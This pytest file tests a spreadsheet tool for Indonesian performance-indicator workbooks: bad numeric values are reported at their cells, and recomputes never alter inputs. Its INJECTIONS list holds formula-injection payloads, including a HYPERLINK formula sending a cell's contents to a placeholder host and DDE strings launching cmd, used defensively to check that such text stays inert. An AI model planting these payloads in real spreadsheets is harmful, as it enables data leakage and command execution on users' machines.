"""Bad values typed (or planted in the XML) in a number or text cell: each is reported at its
cell with a problem code, ``check`` exits 1 for a galat, and a recompute changes no input cell.

Non-finite values (INF, more than Excel's largest number, a quotient that overflows) never
become a silent blank; ambiguous numbers are never guessed; formula text stays text.
"""

from __future__ import annotations

import json
from pathlib import Path

import openpyxl
import pytest

from lkjip_xl.workbook.api import check_file, recompute_file
from lkjip_xl.workbook.problems import Kode
from tests.hostile.corpus import (
    INDIKATOR,
    inline_text,
    input_cells,
    kinerja,
    no_leftovers,
    part,
    run_cli,
    set_cell_xml,
    sheet_part,
)

FIRST = 5  # the first data row of tblIndikator


def planted(xml: bytes):
    """The cell Realisasi of the first indicator holds ``xml`` exactly."""

    def make(path: Path) -> Path:
        return set_cell_xml(kinerja(path), "Indikator", f"H{FIRST}", xml)

    return make


def typed(**values):
    """The first indicator filled with ``values`` as openpyxl (a user) types them."""

    def make(path: Path) -> Path:
        return kinerja(path, [dict(INDIKATOR[0], **values), *INDIKATOR[1:]])

    return make


def text_in(column: str, text: str):
    def make(path: Path) -> Path:
        return set_cell_xml(kinerja(path), "Indikator", f"{column}{FIRST}",
                            inline_text(f"{column}{FIRST}", text))  # fmt: skip

    return make


# (make, code, cell): what is reported, and where.
REPORTED = {
    "INF planted": (planted(b'<c r="H5"><v>INF</v></c>'), "non-finite", "H5"),
    "-INF planted": (planted(b'<c r="H5"><v>-INF</v></c>'), "non-finite", "H5"),
    "Infinity planted": (planted(b'<c r="H5"><v>Infinity</v></c>'), "non-finite", "H5"),
    "1e309 planted": (planted(b'<c r="H5"><v>1e309</v></c>'), "non-finite", "H5"),
    "1.7e308 typed": (typed(Realisasi=1.7e308), "non-finite", "H5"),
    "1e308 target and realisasi": (typed(Target=1e308, Realisasi=1e308), "non-finite", "G5"),
    "1e-300 target, 1e300 realisasi": (
        typed(Target=1e-300, Realisasi=1e300),
        "non-finite",
        "L5",
    ),
    "text INF": (text_in("H", "INF"), "non-finite", "H5"),
    "text infinity sign": (text_in("H", "∞"), "non-finite", "H5"),
    "text tak hingga": (text_in("H", "tak hingga"), "non-finite", "H5"),
    "a 40,000-digit number as text": (text_in("H", "9" * 40_000), "non-finite", "H5"),
    "text NaN": (text_in("H", "NaN"), "not-a-number", "H5"),
    "words dua puluh": (text_in("H", "dua puluh"), "not-a-number", "H5"),
    "ambiguous 1.234": (text_in("H", "1.234"), "ambiguous-number", "H5"),
    "ambiguous 1,234": (text_in("H", "1,234"), "ambiguous-number", "H5"),
    "formula text in a number cell": (text_in("H", "=1+1"), "not-a-number", "H5"),
    "boolean": (planted(b'<c r="H5" t="b"><v>1</v></c>'), "boolean-as-number", "H5"),
    "error value": (planted(b'<c r="H5" t="e"><v>#DIV/0!</v></c>'), "excel-error", "H5"),
    "formula giving an error": (
        planted(b'<c r="H5" t="str"><f>1/0</f><v>#DIV/0!</v></c>'),
        "excel-error",
        "H5",
    ),
    "negative zero target": (typed(Target=-0.0), "zero-divisor", "G5"),
}


@pytest.mark.parametrize("case", REPORTED, ids=list(REPORTED))
def test_a_bad_value_is_reported_at_its_cell_and_inputs_survive_recompute(case, tmp_path):
    make, code, cell = REPORTED[case]
    path = make(tmp_path / "kinerja.xlsx")
    laporan = check_file(path)
    found = {(m.code, m.place) for m in laporan.masalah}
    assert (code, f"Indikator!{cell}") in found, sorted(found)
    message = next(m.message for m in laporan.masalah if m.place == f"Indikator!{cell}")
    assert message and "Traceback" not in message
    before = input_cells(path)
    recompute_file(path)
    assert input_cells(path) == before
    assert no_leftovers(tmp_path) == []


@pytest.mark.parametrize("case", ["INF planted", "1e-300 target, 1e300 realisasi", "1.7e308 typed"])
def test_overflow_makes_check_exit_1_naming_the_cell(case, tmp_path):
    """Overflow was a silent blank with exit 0: now a galat at the cell, exit 1."""
    make, code, cell = REPORTED[case]
    path = make(tmp_path / "kinerja.xlsx")
    run = run_cli("check", str(path), "--json")
    assert run.returncode == 1, run.stderr
    problems = json.loads(run.stdout)["masalah"]
    assert any(p["code"] == code and p["place"] == f"Indikator!{cell}" for p in problems), problems


STORED_NON_FINITE = {
    "NaN": b'<c r="H5"><v>NaN</v></c>',
    "nan": b'<c r="H5"><v>nan</v></c>',
    "INF": b'<c r="H5"><v>INF</v></c>',
    "-INF": b'<c r="H5"><v>-INF</v></c>',
    "1e999": b'<c r="H5"><v>1e999</v></c>',
}


@pytest.mark.parametrize("case", STORED_NON_FINITE, ids=list(STORED_NON_FINITE))
def test_non_finite_stored_in_a_number_cell_is_not_a_silent_blank(case, tmp_path):
    """calamine reads <v>NaN</v> as a float NaN, which the values layer took for a blank."""
    path = planted(STORED_NON_FINITE[case])(tmp_path / "kinerja.xlsx")
    found = [(m.code, m.place) for m in check_file(path).masalah]
    assert (Kode.NON_FINITE, "Indikator!H5") in found
    before = input_cells(path)
    found = [(m.code, m.place) for m in recompute_file(path).masalah]
    assert (Kode.NON_FINITE, "Indikator!H5") in found
    assert input_cells(path) == before


# Text that a spreadsheet could run as a formula: kept as typed, never turned into one.
INJECTIONS = {
    "hyperlink": '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab first": "\t=1+1",
}


@pytest.mark.parametrize("case", INJECTIONS, ids=list(INJECTIONS))
def test_formula_injection_text_stays_text(case, tmp_path):
    text = INJECTIONS[case]
    path = text_in("C", text)(tmp_path / "kinerja.xlsx")
    before = input_cells(path)
    laporan = recompute_file(path)
    assert not [m for m in laporan.galat if m.place == "Indikator!C5"]
    assert input_cells(path) == before
    xml = part(path, sheet_part(path, "Indikator"))
    start = xml.index(b'<c r="C5"')
    assert b"<f" not in xml[start : xml.index(b"</c>", start)]
    assert openpyxl.load_workbook(path)["Indikator"]["C5"].value == text


@pytest.mark.parametrize("length", [32_767, 40_000], ids=["excel-limit", "beyond-limit"])
def test_a_huge_string_in_a_text_cell_is_kept(length, tmp_path):
    text = "Peningkatan kualitas " * (length // 21) + "x" * (length % 21)
    path = text_in("C", text)(tmp_path / "kinerja.xlsx")
    before = input_cells(path)
    recompute_file(path)
    assert input_cells(path) == before
    assert openpyxl.load_workbook(path)["Indikator"]["C5"].value == text


@pytest.mark.parametrize(
    ("text", "capaian"),
    # realisasi / 75 x 100, to two decimals: 1234.5 -> 1646; 1234 -> 1645.33; 12.5 -> 16.67
    [("1.234,5", 1646.0), ("Rp 1.234", 1645.33), ("12,5", 16.67)],
    ids=["indonesian-decimal", "rupiah-thousands", "comma-decimal"],
)
def test_unambiguous_indonesian_numbers_are_read_as_written(text, capaian, tmp_path):
    path = text_in("H", text)(tmp_path / "kinerja.xlsx")
    laporan = recompute_file(path)
    assert not [m for m in laporan.masalah if m.place == "Indikator!H5"]
    ws = openpyxl.load_workbook(path)["Indikator"]
    assert ws["L5"].value == capaian
    assert ws["H5"].value == text  # the typed text itself is left as it was
